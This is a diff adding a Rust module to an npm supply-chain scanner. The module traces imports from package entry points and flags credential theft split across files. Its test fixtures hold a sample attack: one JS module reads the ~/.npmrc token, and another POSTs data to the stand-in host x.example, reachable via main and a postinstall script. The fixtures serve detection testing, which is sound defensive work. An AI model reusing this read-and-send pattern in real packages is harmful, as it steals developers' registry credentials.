@@ -0,0 +1,741 @@
+// Cross-module analysis of a package's own files using oxc
+// Resolves relative require/import edges into a module graph, attributes
+// capabilities (network, filesystem, process...) to the functions using
+// them, and reports attack chains split across files only when they are
+// reachable from an entry point (main, exports, bin or a lifecycle script).
+
+use oxc_allocator::Allocator;
+use oxc_ast::ast::*;
+use oxc_ast_visit::walk;
+use oxc_ast_visit::Visit;
+use oxc_parser::Parser;
+use serde_json::Value;
+use std::collections::{BTreeMap, BTreeSet, VecDeque};
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+
+use crate::ast_security_analyzer::source_type;
+use crate::security::{AttackChainType, BehavioralChain, IssueSeverity, LIFECYCLE_HOOKS};
+use crate::taint_analyzer::{
+    is_credential_path, is_file_read, ModuleAliases, EXEC_CONSTRUCTORS, EXEC_SINKS,
+    NETWORK_CLIENTS, NETWORK_CONSTRUCTORS, NETWORK_SINKS,
+};
+
+/// Upper bound on modules parsed per package
+const MAX_MODULES: usize = 500;
+
+/// Extensions tried, in order, when a specifier omits one
+const EXTENSIONS: &[&str] = &["js", "cjs", "mjs", "ts", "json"];
+
+/// Lifecycle scripts whose `node <file>` targets are entry points
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Capability {
+    Network,
+    Credentials,
+    Environment,
+    Filesystem,
+    Process,
+    Eval,
+}
+
+impl Capability {
+    fn describe(self) -> &'static str {
+        match self {
+            Capability::Network => "makes network requests",
+            Capability::Credentials => "reads credential files",
+            Capability::Environment => "reads environment variables",
+            Capability::Filesystem => "uses the filesystem",
+            Capability::Process => "executes system commands",
+            Capability::Eval => "executes dynamic code",
+        }
+    }
+}
+
+/// Where a module uses a capability
+#[derive(Debug, Clone, PartialEq)]
+pub struct CapabilityUse {
+    pub capability: Capability,
+    /// Innermost named (or exported) function, `None` at module top level
+    pub function: Option<String>,
+    pub line_number: usize,
+    /// Callee or expression that grants the capability (`https.request`)
+    pub api: String,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct Module {
+    /// Package-relative paths of the modules this one requires/imports
+    pub imports: BTreeSet<String>,
+    pub capabilities: Vec<CapabilityUse>,
+}
+
+impl Module {
+    fn first_use(&self, capabilities: &[Capability]) -> Option<&CapabilityUse> {
+        self.capabilities
+            .iter()
+            .find(|usage| capabilities.contains(&usage.capability))
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct EntryPoint {
+    /// `main`, `module`, `exports`, `bin` or the lifecycle script name
+    pub kind: String,
+    /// Package-relative path of the module it starts at
+    pub module: String,
+}
+
+impl std::fmt::Display for EntryPoint {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{} ({})", self.kind, self.module)
+    }
+}
+
+/// How a module was first reached: entry point index and importing module
+#[derive(Debug, Clone)]
+struct Reach {
+    entry: usize,
+    parent: Option<String>,
+}
+
+/// Modules reachable from a package's entry points, keyed by their
+/// package-relative path
+#[derive(Debug, Default)]
+pub struct ModuleGraph {
+    pub entry_points: Vec<EntryPoint>,
+    pub modules: BTreeMap<String, Module>,
+    reached: BTreeMap<String, Reach>,
+}
+
+impl ModuleGraph {
+    /// Parse every module reachable from the entry points of the package in
+    /// `package_dir`. Files nothing reaches are never parsed.
+    pub fn build(package_dir: &Path) -> Self {
+        let mut graph = Self {
+            entry_points: entry_points(package_dir),
+            ..Self::default()
+        };
+
+        let mut queue = VecDeque::new();
+        for (index, entry) in graph.entry_points.iter().enumerate() {
+            if !graph.reached.contains_key(&entry.module) {
+                graph.reached.insert(
+                    entry.module.clone(),
+                    Reach {
+                        entry: index,
+                        parent: None,
+                    },
+                );
+                queue.push_back(entry.module.clone());
+            }
+        }
+
+        while let Some(path) = queue.pop_front() {
+            if graph.modules.len() >= MAX_MODULES {
+                break;
+            }
+            let module = parse_module(package_dir, &path);
+            let entry = graph.reached[&path].entry;
+            for import in &module.imports {
+                if !graph.reached.contains_key(import) {
+                    graph.reached.insert(
+                        import.clone(),
+                        Reach {
+                            entry,
+                            parent: Some(path.clone()),
+                        },
+                    );
+                    queue.push_back(import.clone());
+                }
+            }
+            graph.modules.insert(path, module);
+        }
+
+        graph
+    }
+
+    /// Import path from an entry point down to `module` (`index.js -> lib/a.js`)
+    pub fn import_path(&self, module: &str) -> Vec<String> {
+        let mut path = vec![module.to_string()];
+        let mut current = module;
+        while let Some(parent) = self
+            .reached
+            .get(current)
+            .and_then(|reach| reach.parent.as_deref())
+        {
+            if path.iter().any(|seen| seen == parent) {
+                break;
+            }
+            path.push(parent.to_string());
+            current = parent;
+        }
+        path.reverse();
+        path
+    }
+
+    /// Entry point `module` was first reached from
+    pub fn entry_point_of(&self, module: &str) -> Option<&EntryPoint> {
+        self.reached
+            .get(module)
+            .and_then(|reach| self.entry_points.get(reach.entry))
+    }
+
+    fn evidence(&self, module: &str, usage: &CapabilityUse) -> Vec<String> {
+        let site = match &usage.function {
+            Some(function) => format!("{}:{} {}()", module, usage.line_number, function),
+            None => format!("{}:{}", module, usage.line_number),
+        };
+        vec![
+            format!("import path: {}", self.import_path(module).join(" -> ")),
+            format!("{} {} ({})", site, usage.capability.describe(), usage.api),
+        ]
+    }
+
+    /// Attack chains whose steps live in different modules. Single-file
+    /// chains are left to taint tracking and the per-file heuristics.
+    pub fn behavioral_chains(&self) -> Vec<BehavioralChain> {
+        let mut chains = Vec::new();
+
+        for (source_module, module) in &self.modules {
+            let Some(theft) = module.first_use(&[Capability::Credentials]) else {
+                continue;
+            };
+            let sink = self
+                .modules
+                .iter()
+                .filter(|(path, _)| *path != source_module)
+                .find_map(|(path, other)| {
+                    other
+                        .first_use(&[Capability::Network, Capability::Process])
+                        .map(|usage| (path, usage))
+                });
+            let Some((sink_module, sink)) = sink else {
+                continue;
+            };
+            let Some(entry) = self.entry_point_of(source_module) else {
+                continue;
+            };
+
+            let mut evidence = vec![format!("entry point: {}", entry)];
+            evidence.extend(self.evidence(source_module, theft));
+            evidence.extend(self.evidence(sink_module, sink));
+
+            chains.push(BehavioralChain {
+                chain_type: AttackChainType::CredentialTheft,
+                description: format!(
+                    "SUPPLY CHAIN ATTACK: Credential theft split across modules - {} reads credential files and {} {}",
+                    source_module,
+                    sink_module,
+                    sink.capability.describe()
+                ),
+                evidence,
+                severity: IssueSeverity::Critical,
+                risk_score: 95,
+                entry_point: Some(entry.to_string()),
+            });
+            // One chain per package is enough to flag it
+            break;
+        }
+
+        chains
+    }
+}
+
+/// Entry points declared in package.json, resolved to package files
+pub fn entry_points(package_dir: &Path) -> Vec<EntryPoint> {
+    let manifest: Value = fs::read_to_string(package_dir.join("package.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or(Value::Null);
+
+    let mut specifiers: Vec<(String, String)> = Vec::new();
+    let main = manifest["main"].as_str().unwrap_or("index.js");
+    specifiers.push(("main".to_string(), main.to_string()));
+    if let Some(module) = manifest["module"].as_str() {
+        specifiers.push(("module".to_string(), module.to_string()));
+    }
+
+    let mut exports = Vec::new();
+    collect_export_targets(&manifest["exports"], &mut exports);
+    specifiers.extend(exports.into_iter().map(|e| ("exports".to_string(), e)));
+
+    match &manifest["bin"] {
+        Value::String(bin) => specifiers.push(("bin".to_string(), bin.clone())),
+        Value::Object(bins) => specifiers.extend(
+            bins.values()
+                .filter_map(|bin| bin.as_str())
+                .map(|bin| ("bin".to_string(), bin.to_string())),
+        ),
+        _ => {}
+    }
+
+    for script in LIFECYCLE_HOOKS {
+        if let Some(command) = manifest["scripts"][script].as_str() {
+            specifiers.extend(
+                script_targets(command).map(|target| (script.to_string(), target.to_string())),
+            );
+        }
+    }
+
+    let mut entries: Vec<EntryPoint> = Vec::new();
+    for (kind, specifier) in specifiers {
+        let Some(module) = resolve(package_dir, package_dir, &specifier) else {
+            continue;
+        };
+        if !entries.iter().any(|entry| entry.module == module) {
+            entries.push(EntryPoint { kind, module });
+        }
+    }
+    entries
+}
+
+/// File targets in an `exports` map (conditions and subpaths, no patterns)
+fn collect_export_targets(exports: &Value, targets: &mut Vec<String>) {
+    match exports {
+        Value::String(target) if !target.contains('*') => targets.push(target.clone()),
+        Value::Array(items) => items
+            .iter()
+            .for_each(|item| collect_export_targets(item, targets)),
+        Value::Object(map) => map
+            .values()
+            .for_each(|value| collect_export_targets(value, targets)),
+        _ => {}
+    }
+}
+
+/// Script files run by a lifecycle command (`node ./scripts/setup.js && ...`,
+/// `node scripts/setup`)
+pub(crate) fn script_targets(command: &str) -> impl Iterator<Item = &str> {
+    let tokens: Vec<&str> = command
+        .split(|c: char| c.is_whitespace() || matches!(c, '&' | ';' | '|'))
+        .map(|token| token.trim_matches(|c| c == '"' || c == '\''))
+        .filter(|token| !token.is_empty())
+        .collect();
+    let mut targets = Vec::new();
+    for (index, token) in tokens.iter().enumerate() {
+        let after_node = index > 0 && tokens[index - 1] == "node" && !token.starts_with('-');
+        if after_node
+            || token.ends_with(".js")
+            || token.ends_with(".cjs")
+            || token.ends_with(".mjs")
+        {
+            targets.push(*token);
+        }
+    }
+    targets.into_iter()
+}
+
+/// Lexically resolve `.`/`..` without touching the filesystem
+fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+/// Resolve a specifier the way Node does for relative paths, returning the
+/// package-relative path. Anything escaping the package is ignored.
+pub fn resolve(package_dir: &Path, from_dir: &Path, specifier: &str) -> Option<String> {
+    let root = normalize(package_dir);
+    let base = normalize(&from_dir.join(specifier));
+    if !base.starts_with(&root) {
+        return None;
+    }
+
+    let with_extension = EXTENSIONS.iter().map(|ext| {
+        let mut file = base.clone().into_os_string();
+        file.push(".");
+        file.push(ext);
+        PathBuf::from(file)
+    });
+    let index = EXTENSIONS
+        .iter()
+        .map(|ext| base.join(format!("index.{}", ext)));
+
+    std::iter::once(base.clone())
+        .chain(with_extension)
+        .chain(index)
+        .find(|candidate| candidate.is_file())
+        .and_then(|file| {
+            file.strip_prefix(&root).ok().map(|relative| {
+                relative
+                    .components()
+                    .map(|c| c.as_os_str().to_string_lossy())
+                    .collect::<Vec<_>>()
+                    .join("/")
+            })
+        })
+}
+
+fn is_relative(specifier: &str) -> bool {
+    specifier == "." || specifier.starts_with("./") || specifier.starts_with("../")
+}
+
+/// Imports and capabilities of one module. Unparseable files and non-script
+/// files (JSON) contribute nothing.
+fn parse_module(package_dir: &Path, relative: &str) -> Module {
+    let path = package_dir.join(relative);
+    let is_script = ["js", "cjs", "mjs", "ts"]
+        .iter()
+        .any(|ext| relative.ends_with(&format!(".{}", ext)));
+    let Some(source_text) = is_script.then(|| fs::read_to_string(&path).ok()).flatten() else {
+        return Module::default();
+    };
+
+    let allocator = Allocator::default();
+    let parsed = Parser::new(&allocator, &source_text, source_type(relative)).parse();
+    if parsed.diagnostics.has_errors() {
+        return Module::default();
+    }
+
+    let mut visitor = ModuleVisitor::new(&source_text);
+    visitor.visit_program(&parsed.program);
+
+    let from_dir = path.parent().unwrap_or(package_dir);
+    let imports = visitor
+        .specifiers
+        .iter()
+        .filter(|specifier| is_relative(specifier))
+        .filter_map(|specifier| resolve(package_dir, from_dir, specifier))
+        .filter(|import| import != relative)
+        .collect();
+
+    Module {
+        imports,
+        capabilities: visitor.capabilities,
+    }
+}
+
+/// Collects import specifiers and capability uses of a single module
+struct ModuleVisitor<'s> {
+    source_text: &'s str,
+    aliases: ModuleAliases,
+    specifiers: Vec<String>,
+    capabilities: Vec<CapabilityUse>,
+    current_function: Vec<String>,
+}
+
+impl<'s> ModuleVisitor<'s> {
+    fn new(source_text: &'s str) -> Self {
+        Self {
+            source_text,
+            aliases: ModuleAliases::default(),
+            specifiers: Vec::new(),
+            capabilities: Vec::new(),
+            current_function: Vec::new(),
+        }
+    }
+
+    fn line_number(&self, offset: u32) -> usize {
+        self.source_text
+            .get(..offset as usize)
+            .map_or(1, |before| before.matches('\n').count() + 1)
+    }
+
+    fn record(&mut self, capability: Capability, span: Span, api: String) {
+        self.capabilities.push(CapabilityUse {
+            capability,
+            function: self.current_function.last().cloned(),
+            line_number: self.line_number(span.start),
+            api,
+        });
+    }
+
+    fn call_capability(&self, call: &CallExpression<'_>, name: &str) -> Option<Capability> {
+        let is_client_call = NETWORK_CLIENTS.iter().any(|client| {
+            name.strip_prefix(client)
+                .is_some_and(|m| m.starts_with('.'))
+        });
+        if NETWORK_SINKS.contains(&name) || is_client_call {
+            Some(Capability::Network)
+        } else if is_file_read(name)
+            && call
+                .arguments
+                .first()
+                .and_then(|arg| arg.as_expression())
+                .is_some_and(is_credential_path)
+        {
+            Some(Capability::Credentials)
+        } else if name.starts_with("child_process.") && EXEC_SINKS.contains(&name) {
+            Some(Capability::Process)
+        } else if EXEC_SINKS.contains(&name) {
+            Some(Capability::Eval)
+        } else if name.starts_with("fs.") {
+            Some(Capability::Filesystem)
+        } else {
+            None
+        }
+    }
+
+    /// Walk a function body with `name` as the function capabilities go to
+    fn within<F: FnOnce(&mut Self)>(&mut self, name: String, walk: F) {
+        self.current_function.push(name);
+        walk(self);
+        self.current_function.pop();
+    }
+}
+
+/// `exports.name` / `module.exports.name` being assigned
+fn exported_name(target: &AssignmentTarget<'_>) -> Option<String> {
+    let member = target.as_member_expression()?;
+    let name = member.static_property_name()?;
+    match member.object().get_inner_expression() {
+        Expression::Identifier(ident) if ident.name == "exports" => Some(name.to_string()),
+        Expression::StaticMemberExpression(object)
+            if object.property.name == "exports"
+                && matches!(&object.object, Expression::Identifier(m) if m.name == "module") =>
+        {
+            Some(name.to_string())
+        }
+        _ => None,
+    }
+}
+
+fn is_function(expr: &Expression<'_>) -> bool {
+    matches!(
+        expr.get_inner_expression(),
+        Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_)
+    )
+}
+
+impl<'a> Visit<'a> for ModuleVisitor<'_> {
+    fn visit_import_declaration(&mut self, decl: &ImportDeclaration<'a>) {
+        self.aliases.record_import(decl);
+        self.specifiers.push(decl.source.value.to_string());
+        walk::walk_import_declaration(self, decl);
+    }
+
+    fn visit_export_all_declaration(&mut self, decl: &ExportAllDeclaration<'a>) {
+        self.specifiers.push(decl.source.value.to_string());
+        walk::walk_export_all_declaration(self, decl);
+    }
+
+    fn visit_export_named_declaration(&mut self, decl: &ExportNamedDeclaration<'a>) {
+        if let Some(source) = &decl.source {
+            self.specifiers.push(source.value.to_string());
+        }
+        walk::walk_export_named_declaration(self, decl);
+    }
+
+    fn visit_import_expression(&mut self, expr: &ImportExpression<'a>) {
+        if let Expression::StringLiteral(lit) = &expr.source {
+            self.specifiers.push(lit.value.to_string());
+        }
+        walk::walk_import_expression(self, expr);
+    }
+
+    fn visit_declaration(&mut self, decl: &Declaration<'a>) {
+        if let Declaration::FunctionDeclaration(func) = decl {
+            if let Some(id) = &func.id {
+                self.within(id.name.to_string(), |v| walk::walk_declaration(v, decl));
+                return;
+            }
+        }
+        walk::walk_declaration(self, decl);
+    }
+
+    fn visit_variable_declarator(&mut self, decl: &VariableDeclarator<'a>) {
+        if let Some(init) = &decl.init {
+            self.aliases.record_require(&decl.id, init);
+            // const send = (data) => ... / const send = function (data) { ... }
+            if let (BindingPattern::BindingIdentifier(ident), true) = (&decl.id, is_function(init))
+            {
+                self.within(ident.name.to_string(), |v| {
+                    walk::walk_variable_declarator(v, decl)
+                });
+                return;
+            }
+        }
+        walk::walk_variable_declarator(self, decl);
+    }
+
+    fn visit_assignment_expression(&mut self, expr: &AssignmentExpression<'a>) {
+        // exports.send = function (data) { ... }
+        if let (Some(name), true) = (exported_name(&expr.left), is_function(&expr.right)) {
+            self.within(name, |v| walk::walk_assignment_expression(v, expr));
+            return;
+        }
+        walk::walk_assignment_expression(self, expr);
+    }
+
+    fn visit_call_expression(&mut self, call: &CallExpression<'a>) {
+        if let Expression::Identifier(ident) = &call.callee {
+            if ident.name == "require" {
+                if let Some(Argument::StringLiteral(lit)) = call.arguments.first() {
+                    self.specifiers.push(lit.value.to_string());
+                }
+            }
+        }
+        if let Some(name) = self.aliases.qualify(&call.callee) {
+            if let Some(capability) = self.call_capability(call, &name) {
+                self.record(capability, call.span, name);
+            }
+        }
+        walk::walk_call_expression(self, call);
+    }
+
+    fn visit_new_expression(&mut self, expr: &NewExpression<'a>) {
+        if let Some(name) = self.aliases.qualify(&expr.callee) {
+            if NETWORK_CONSTRUCTORS.contains(&name.as_str()) {
+                self.record(Capability::Network, expr.span, name);
+            } else if EXEC_CONSTRUCTORS.contains(&name.as_str()) {
+                self.record(Capability::Eval, expr.span, name);
+            }
+        }
+        walk::walk_new_expression(self, expr);
+    }
+
+    fn visit_static_member_expression(&mut self, expr: &StaticMemberExpression<'a>) {
+        // process.env.X (process.env itself is reached through the object)
+        if expr.property.name == "env"
+            && matches!(&expr.object, Expression::Identifier(ident) if ident.name == "process")
+        {
+            self.record(
+                Capability::Environment,
+                expr.span,
+                "process.env".to_string(),
+            );
+        }
+        walk::walk_static_member_expression(self, expr);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn package(files: &[(&str, &str)]) -> TempDir {
+        let dir = TempDir::new().unwrap();
+        for (path, content) in files {
+            let path = dir.path().join(path);
+            fs::create_dir_all(path.parent().unwrap()).unwrap();
+            fs::write(path, content).unwrap();
+        }
+        dir
+    }
+
+    const READS_NPMRC: &str = "const fs = require('fs');\nconst os = require('os');\nexports.token = function () {\n  return fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n};\n";
+    const POSTS: &str = "const https = require('https');\nmodule.exports.send = (data) => {\n  const req = https.request({ host: 'x.example', method: 'POST' });\n  req.end(data);\n};\n";
+
+    #[test]
+    fn reports_credential_theft_split_across_reachable_modules() {
+        let dir = package(&[
+            ("package.json", r#"{"name": "split", "main": "index.js"}"#),
+            (
+                "index.js",
+                "const { token } = require('./lib/a');\nconst { send } = require('./lib/b.js');\nsend(token());\n",
+            ),
+            ("lib/a.js", READS_NPMRC),
+            ("lib/b.js", POSTS),
+        ]);
+
+        let graph = ModuleGraph::build(dir.path());
+        assert_eq!(
+            graph.modules.keys().collect::<Vec<_>>(),
+            vec!["index.js", "lib/a.js", "lib/b.js"]
+        );
+        assert_eq!(graph.import_path("lib/b.js"), vec!["index.js", "lib/b.js"]);
+
+        let a = &graph.modules["lib/a.js"];
+        let theft = a.first_use(&[Capability::Credentials]).unwrap();
+        assert_eq!(theft.function.as_deref(), Some("token"));
+        assert_eq!(theft.line_number, 4);
+
+        let chains = graph.behavioral_chains();
+        assert_eq!(chains.len(), 1);
+        let chain = &chains[0];
+        assert_eq!(chain.chain_type, AttackChainType::CredentialTheft);
+        assert_eq!(chain.entry_point.as_deref(), Some("main (index.js)"));
+        assert_eq!(chain.evidence[0], "entry point: main (index.js)");
+        assert_eq!(chain.evidence[1], "import path: index.js -> lib/a.js");
+        assert!(chain.evidence[2].starts_with("lib/a.js:4 token() reads credential files"));
+        assert!(chain.evidence[4]
+            .starts_with("lib/b.js:3 send() makes network requests (https.request)"));
+    }
+
+    #[test]
+    fn ignores_modules_no_entry_point_reaches() {
+        let dir = package(&[
+            ("package.json", r#"{"name": "dead", "main": "index.js"}"#),
+            ("index.js", "module.exports = 42;\n"),
+            ("lib/a.js", READS_NPMRC),
+            ("lib/b.js", POSTS),
+        ]);
+
+        let graph = ModuleGraph::build(dir.path());
+        assert_eq!(graph.modules.keys().collect::<Vec<_>>(), vec!["index.js"]);
+        assert!(graph.behavioral_chains().is_empty());
+    }
+
+    #[test]
+    fn lifecycle_scripts_and_bin_are_entry_points() {
+        let dir = package(&[
+            (
+                "package.json",
+                r#"{
+                    "name": "setup",
+                    "bin": { "setup": "./bin/cli.js" },
+                    "exports": { ".": { "import": "./esm/index.mjs", "require": "./index.js" }, "./*": "./lib/*.js" },
+                    "scripts": { "postinstall": "node scripts/install.js && echo done", "test": "node test.js" }
+                }"#,
+            ),
+            ("index.js", ""),
+            ("esm/index.mjs", "export * from '../lib/a.js';\n"),
+            ("bin/cli.js", ""),
+            ("scripts/install.js", "import('../lib/b');\n"),
+            ("test.js", ""),
+            ("lib/a.js", READS_NPMRC),
+            ("lib/b.js", POSTS),
+        ]);
+
+        let kinds: Vec<String> = entry_points(dir.path())
+            .iter()
+            .map(|entry| entry.to_string())
+            .collect();
+        assert_eq!(
+            kinds,
+            vec![
+                "main (index.js)",
+                "exports (esm/index.mjs)",
+                "bin (bin/cli.js)",
+                "postinstall (scripts/install.js)",
+            ]
+        );
+
+        let graph = ModuleGraph::build(dir.path());
+        assert_eq!(
+            graph.entry_point_of("lib/b.js").map(|e| e.kind.as_str()),
+            Some("postinstall")
+        );
+        assert_eq!(graph.behavioral_chains().len(), 1);
+    }
+
+    #[test]
+    fn resolution_stays_inside_the_package() {
+        let outer = package(&[
+            ("secret.js", ""),
+            ("pkg/lib/index.js", ""),
+            ("pkg/util.ts", ""),
+        ]);
+        let root = outer.path().join("pkg");
+
+        assert_eq!(
+            resolve(&root, &root, "./lib").as_deref(),
+            Some("lib/index.js")
+        );
+        assert_eq!(
+            resolve(&root, &root.join("lib"), "../util").as_deref(),
+            Some("util.ts")
+        );
+        assert_eq!(resolve(&root, &root, "../secret.js"), None);
+        assert_eq!(resolve(&root, &root, "./missing"), None);
+    }
+}